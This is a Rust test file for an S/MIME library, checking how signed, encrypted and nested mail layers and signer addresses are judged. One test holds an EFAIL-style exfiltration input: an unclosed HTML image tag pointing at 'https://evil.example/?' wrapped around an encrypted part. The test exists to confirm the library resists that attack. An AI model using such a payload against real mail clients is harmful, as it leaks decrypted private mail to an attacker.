//! Which layers and which signers count (RFC 9787, RFC 8550).

use smime::message::{Address, Role, SIGNER_FAULT_CODES, Status};

use crate::people::World;

const OUTER: &str =
    "From: Alice <alice@a.example>\r\nTo: bob@b.example\r\nSubject: Hello\r\nMIME-Version: 1.0\r\n";
const TEXT: &[u8] = b"Content-Type: text/plain\r\n\r\nThe text.\r\n";

fn reason(world: &World, message: &[u8]) -> Option<&'static str> {
    let opened = world.open(message);
    let code = opened.signers.first().and_then(|signer| signer.reason.as_ref()).map(|reason| reason.code());
    assert!(code.is_none_or(|code| SIGNER_FAULT_CODES.contains(&code)));
    assert_eq!(code.is_none(), opened.signers.first().is_some_and(|signer| signer.valid));
    code
}

#[test]
fn both_forms_of_a_signature_verify() {
    let world = World::new();
    for message in [world.sign(OUTER, TEXT, "alice"), world.sign_opaque(OUTER, TEXT, "alice")] {
        let opened = world.open(&message);
        assert_eq!(opened.status, Status::Verified, "{:?}", opened.signers);
        assert_eq!(opened.text().as_deref(), Some("The text.\r\n"));
        assert!(!opened.headers.protected);
        assert_eq!(opened.headers.protection("Subject").code(), "unprotected");
    }
}

#[test]
fn a_lost_transfer_encoding_is_found_again() {
    let world = World::new();
    let message = String::from_utf8(world.sign_opaque(OUTER, TEXT, "alice")).unwrap();
    let bare = message.replace("Content-Transfer-Encoding: base64\r\n", "");
    assert_ne!(bare, message);
    assert_eq!(world.open(bare.as_bytes()).status, Status::Verified);
}

#[test]
fn bare_line_feeds_do_not_break_a_signature() {
    let world = World::new();
    let message = world.sign(OUTER, TEXT, "alice");
    let unix: Vec<u8> = message.into_iter().filter(|byte| *byte != b'\r').collect();
    assert_eq!(world.open(&unix).status, Status::Verified);
    let signed_bare = world.sign(OUTER, b"Content-Type: text/plain\n\nThe text.\n", "alice");
    assert_eq!(world.open(&signed_bare).status, Status::Verified);
}

#[test]
fn a_changed_text_counts_as_unsigned() {
    let world = World::new();
    let message =
        String::from_utf8(world.sign(OUTER, TEXT, "alice")).unwrap().replace("The text", "The test");
    let opened = world.open(message.as_bytes());
    assert_eq!(opened.status, Status::Unprotected);
    assert_eq!(opened.text().as_deref(), Some("The test.\r\n"));
    assert_eq!(reason(&world, message.as_bytes()), Some("digest-mismatch"));
}

#[test]
fn only_the_authors_certificate_counts() {
    let world = World::new();
    let message = world.sign(OUTER, TEXT, "mallory");
    assert_eq!(world.open(&message).status, Status::Unprotected);
    assert_eq!(reason(&world, &message), Some("from-mismatch"));
    let named = OUTER.replace("Alice <alice@a.example>", "\"alice@a.example\" <mallory@evil.example>");
    let opened = world.open(&world.sign(&named, TEXT, "mallory"));
    assert_eq!(opened.status, Status::Verified);
    assert_eq!(opened.headers.from[0].email, "mallory@evil.example");
    let upper = OUTER.replace("alice@a.example", "ALICE@A.Example");
    assert_eq!(world.open(&world.sign(&upper, TEXT, "alice")).status, Status::Verified);
}

#[test]
fn an_author_who_cannot_be_told_is_nobody() {
    let world = World::new();
    for from in [
        "From: alice@a.example\r\nFrom: mallory@evil.example\r\n",
        "From: mallory@evil.example\r\nFrom: alice@a.example\r\n",
        "",
        "From: undisclosed:;\r\n",
    ] {
        let message = world.sign(&format!("{from}Subject: x\r\n"), TEXT, "mallory");
        assert_eq!(reason(&world, &message), Some("from-ambiguous"), "{from}");
    }
    for (authors, expected) in [(16, None), (17, Some("from-ambiguous"))] {
        let from = vec!["alice@a.example"; authors].join(",\r\n ");
        let message = world.sign(&format!("From: {from}\r\n"), TEXT, "alice");
        assert_eq!(reason(&world, &message), expected);
    }
    let two = world.sign("From: alice@a.example, mallory@evil.example\r\n", TEXT, "mallory");
    assert_eq!(reason(&world, &two), Some("from-mismatch"));
}

#[test]
fn a_sender_who_signs_is_shown_in_place_of_the_author() {
    let world = World::new();
    let outer = format!("{OUTER}Sender: Mal <mallory@evil.example>\r\n");
    let opened = world.open(&world.sign(&outer, TEXT, "mallory"));
    assert_eq!(opened.status, Status::Verified);
    assert_eq!(opened.signers[0].role, Some(Role::Sender));
    assert_eq!(opened.headers.from[0].email, "mallory@evil.example");
    assert_eq!(opened.headers.on_behalf_of[0].email, "alice@a.example");
}

#[test]
fn a_signer_without_an_address_never_counts() {
    let mut world = World::new();
    world.add("", "The Registry");
    for from in ["Alice <alice@a.example>", "The Registry <alice@a.example>"] {
        let outer = OUTER.replace("Alice <alice@a.example>", from);
        let message = world.sign(&outer, TEXT, "The Registry");
        let opened = world.open(&message);
        assert_eq!((opened.status, reason(&world, &message)), (Status::Unprotected, Some("no-address")));
        assert!(opened.headers.on_behalf_of.is_empty());
        assert_eq!(opened.headers.from[0].email, "alice@a.example");
        let sealed = world.encrypt(&outer, &world.sign("", TEXT, "The Registry"));
        assert_eq!(world.open(&sealed).status, Status::EncryptedUnverified);
    }
}

#[test]
fn no_name_but_the_certificates_stands_beside_a_seal() {
    let world = World::new();
    let shown = |from: &str, signer: &str| {
        let opened = world.open(&world.sign(&format!("From: {from}\r\nSubject: x\r\n"), TEXT, signer));
        assert_eq!(opened.status, Status::Verified, "{from}");
        opened.headers.from[0].clone()
    };
    let mallory = Address::named("mallory", "mallory@evil.example");
    for from in ["Alice Lin", "\"alice@a.example\"", "mallory of the Registry", "\"...\""] {
        assert_eq!(shown(&format!("{from} <mallory@evil.example>"), "mallory"), mallory, "{from}");
    }
    assert_eq!(shown("mallory@evil.example", "mallory"), Address::new("mallory@evil.example"));
    for name in ["Alice", "LIN, Alice", "林爱"] {
        let from = format!("\"{name}\" <alice@a.example>");
        assert_eq!(shown(&from, "alice"), Address::named(name, "alice@a.example"));
    }
    let outer = format!("{OUTER}Sender: The Registry <mallory@evil.example>\r\n");
    assert_eq!(world.open(&world.sign(&outer, TEXT, "mallory")).headers.from, [mallory]);
}

#[test]
fn a_root_nobody_trusts_proves_nothing() {
    let (world, other) = (World::new(), World::under("Other Root"));
    let message = other.sign(OUTER, TEXT, "alice");
    assert_eq!(world.open(&message).status, Status::Unprotected);
    assert_eq!(reason(&world, &message), Some("unknown-issuer"));
}

#[test]
fn signing_inside_encryption_is_confidential_in_every_form() {
    let world = World::new();
    for inner in [world.sign("", TEXT, "alice"), world.sign_opaque("", TEXT, "alice")] {
        assert_eq!(world.open(&world.encrypt(OUTER, &inner)).status, Status::Confidential);
    }
    assert_eq!(world.open(&world.encrypt(OUTER, TEXT)).status, Status::EncryptedUnverified);
    let forged = world.encrypt(OUTER, &world.sign("", TEXT, "mallory"));
    assert_eq!(world.open(&forged).status, Status::EncryptedUnverified);
}

#[test]
fn a_signature_around_a_ciphertext_does_not_count() {
    let world = World::new();
    let sealed = world.encrypt("", TEXT);
    let message = world.sign(OUTER, &sealed, "alice");
    assert_eq!(world.open(&message).status, Status::EncryptedUnverified);
    assert_eq!(reason(&world, &message), Some("outside-encryption"));
    let triple = world.sign(OUTER, &world.encrypt("", &world.sign("", TEXT, "alice")), "alice");
    let opened = world.open(&triple);
    assert_eq!(opened.status, Status::Confidential);
    assert_eq!(opened.signers.iter().map(|signer| signer.valid).collect::<Vec<_>>(), [false, true]);
}

#[test]
fn layers_below_the_payload_are_files_and_nothing_more() {
    let world = World::new();
    let sealed =
        String::from_utf8(world.encrypt("", b"Content-Type: text/plain\r\n\r\nSecret of Bob's.\r\n"))
            .unwrap();
    let signed = String::from_utf8(world.sign("", TEXT, "alice")).unwrap();
    for part in [&sealed, &signed] {
        let mixed = format!(
            "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.example/?\r\n--m\r\n{part}\r\n--m\r\n\r\n'>\r\n--m--\r\n"
        );
        let opened = world.open(format!("{OUTER}{mixed}").as_bytes());
        assert_eq!(opened.status, Status::Unprotected);
        assert!(opened.signers.is_empty() && opened.layers.is_empty());
        assert!(opened.parts.iter().all(|part| !part.text().contains("Secret of Bob's")));
    }
}

#[test]
fn a_third_part_or_a_second_type_is_no_envelope() {
    let world = World::new();
    let message = String::from_utf8(world.sign(OUTER, TEXT, "alice")).unwrap();
    let third = message.replace("\r\n--sig--", "\r\n--sig\r\n\r\nMore.\r\n--sig--");
    assert_eq!(world.open(third.as_bytes()).status, Status::Unprotected);
    let typed = message.replacen("Content-Type:", "Content-Type: text/plain\r\nContent-Type:", 1);
    let opened = world.open(typed.as_bytes());
    assert_eq!((opened.status, opened.parts.len()), (Status::Unprotected, 1));
}

#[test]
fn a_list_footer_around_a_signed_message_takes_its_status() {
    let world = World::new();
    let signed = String::from_utf8(world.sign("", TEXT, "alice")).unwrap();
    let message = format!(
        "{OUTER}Content-Type: multipart/mixed; boundary=list\r\n\r\n--list\r\n{signed}\r\n--list\r\n\r\nFooter\r\n--list--\r\n"
    );
    let opened = world.open(message.as_bytes());
    assert_eq!(opened.status, Status::Unprotected);
    assert!(opened.text().unwrap().contains("The text."));
}

#[test]
fn what_a_stray_opaque_signature_encloses_stands_in_its_place() {
    let world = World::new();
    let list = |signed: &str| {
        let mixed = "Content-Type: multipart/mixed; boundary=list";
        format!("{OUTER}{mixed}\r\n\r\n--list\r\n{signed}\r\n--list\r\n\r\nFooter\r\n--list--\r\n")
    };
    let mut signed = String::from_utf8(world.sign_opaque("", TEXT, "alice")).unwrap();
    let opened = world.open(list(&signed).as_bytes());
    assert_eq!((opened.status, opened.signers.len()), (Status::Unprotected, 0));
    assert_eq!(opened.text().as_deref(), Some("The text.\r\n"));
    assert_eq!(opened.parts.iter().map(|part| part.id.as_str()).collect::<Vec<_>>(), ["1.1", "2"]);
    for (id, text) in [("1.1.1", Some("The text.\r\n")), ("1.1.1", None)] {
        signed = String::from_utf8(world.sign_opaque("", signed.as_bytes(), "alice")).unwrap();
        let opened = world.open(list(&signed).as_bytes());
        assert_eq!((opened.text().as_deref(), opened.parts[0].id.as_str()), (text, id));
    }
}

#[test]
fn a_signed_file_stays_the_file_that_it_is() {
    let world = World::new();
    for (name, file) in [
        ("contract.pdf.p7m", &b"%PDF-1.4\nNot: a header\n"[..]),
        ("note.txt.p7m", b"To: Bob\r\n\r\nHello\r\n"),
    ] {
        let signed = String::from_utf8(world.sign_opaque("", file, "alice")).unwrap();
        let object = signed.split_once("\r\n\r\n").unwrap().1;
        let attached = |media_type: &str| {
            format!(
                "{OUTER}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nText\r\n--m\r\n\
                 Content-Type: {media_type}; name={name}\r\nContent-Transfer-Encoding: base64\r\n\r\n{object}\r\n--m--\r\n"
            )
        };
        for media_type in ["application/pkcs7-mime", "application/octet-stream"] {
            let opened = world.open(attached(media_type).as_bytes());
            let part = opened.part("2").unwrap();
            assert_eq!((part.name.as_deref(), part.data[0]), (Some(name), 0x30));
        }
    }
}

#[test]
fn a_forwarded_message_is_judged_apart() {
    let world = World::new();
    let inner = world.sign(OUTER, TEXT, "alice");
    let mallory = "From: mallory@evil.example\r\nSubject: Fwd\r\n";
    let forward = [
        format!("{mallory}Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n\r\nSee below.\r\n--f\r\nContent-Type: message/rfc822\r\n\r\n").as_bytes(),
        &inner,
        b"\r\n--f--\r\n",
    ]
    .concat();
    let opened = world.open(&forward);
    assert_eq!(opened.status, Status::Unprotected);
    assert_eq!(opened.headers.from[0].email, "mallory@evil.example");
    let part = opened.attachments().next().unwrap();
    assert_eq!(part.media_type, "message/rfc822");
    assert_eq!(world.open(&part.data).status, Status::Verified);
}

#[test]
fn a_message_for_somebody_else_says_so() {
    let (world, other) = (World::new(), World::new());
    let message = other.encrypt(OUTER, TEXT);
    assert_eq!(
        world.try_open(&message).unwrap_err(),
        smime::message::OpenError::Decrypt(smime::DecryptError::NotARecipient)
    );
}

#[test]
fn endless_wrapping_is_refused() {
    let world = World::new();
    let mut message = TEXT.to_vec();
    for _ in 0..12 {
        message = world.sign_opaque(OUTER, &message, "alice");
    }
    assert_eq!(world.try_open(&message).unwrap_err(), smime::message::OpenError::TooManyLayers);
}

#[test]
fn deep_and_broad_trees_are_bounded() {
    let world = World::new();
    let mut deep = String::from(OUTER);
    for level in 0..5000 {
        deep.push_str(&format!("Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n"));
    }
    assert!(!world.open(deep.as_bytes()).parts.is_empty());
    let broad = format!(
        "{OUTER}Content-Type: multipart/mixed; boundary=b\r\n\r\n{}",
        "--b\r\n\r\nx\r\n".repeat(50_000)
    );
    let parts = world.open(broad.as_bytes()).parts;
    assert!(parts.len() <= 2000, "{}", parts.len());
}

/// Made by Python: zlib of a text/plain entity in a CompressedData of DER.
const COMPRESSED: &str = "MGcGCyqGSIb3DQEJEAEJoFgwVgIBADANBgsqhkiG9w0BCRADCDBCBgkqhkiG9w0BBwGgNQQzeJxzzs8rSc0r0Q2pLEi1UihJrSjRL8hJzMzj5eLlcs7PLShKLS5OTQFL6PFyAQB9bg96";

#[test]
fn compression_is_read_and_protects_nothing() {
    let world = World::new();
    let packed = format!(
        "{OUTER}Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\r\nContent-Transfer-Encoding: base64\r\n\r\n{COMPRESSED}\r\n"
    );
    let opened = world.open(packed.as_bytes());
    assert_eq!(
        (opened.status, opened.text().as_deref()),
        (Status::Unprotected, Some("Compressed text.\r\n"))
    );
    let inner = packed.split_at(OUTER.len()).1;
    assert_eq!(world.open(&world.sign(OUTER, inner.as_bytes(), "alice")).status, Status::Verified);
    assert_eq!(
        world.open(&world.encrypt(OUTER, &world.sign("", inner.as_bytes(), "alice"))).status,
        Status::Confidential
    );
}

#[test]
fn a_binary_part_is_signed_as_it_is() {
    let world = World::new();
    let with = |encoding: &str, file: &str| {
        format!(
            "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: application/octet-stream\r\n\
             Content-Transfer-Encoding: {encoding}\r\n\r\n{file}\r\n--m--\r\n"
        )
    };
    for (encoding, status) in [("binary", Status::Unprotected), ("8bit", Status::Verified)] {
        let entity = with(encoding, "a\r\nb");
        let message = String::from_utf8(world.sign(OUTER, entity.as_bytes(), "alice")).unwrap();
        let changed = message.replace("a\r\nb", "a\nb");
        assert_ne!(message, changed);
        assert_eq!(world.open(message.as_bytes()).status, Status::Verified);
        assert_eq!(world.open(changed.as_bytes()).status, status, "{encoding}");
    }
    let bare = world.sign(OUTER, with("binary", "a\nb").as_bytes(), "alice");
    assert_eq!(world.open(&bare).status, Status::Verified);
}
